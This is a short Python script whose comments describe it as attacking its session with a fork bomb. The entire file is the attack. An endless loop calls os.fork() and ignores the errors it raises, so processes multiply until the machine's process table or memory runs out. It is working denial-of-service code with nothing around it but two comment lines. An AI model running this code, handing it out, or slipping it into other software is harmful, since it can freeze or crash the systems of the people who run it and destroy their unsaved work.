# attacks its session by a fork bomb
# ends: variously
import os
while True:
    try: os.fork()
    except OSError: pass
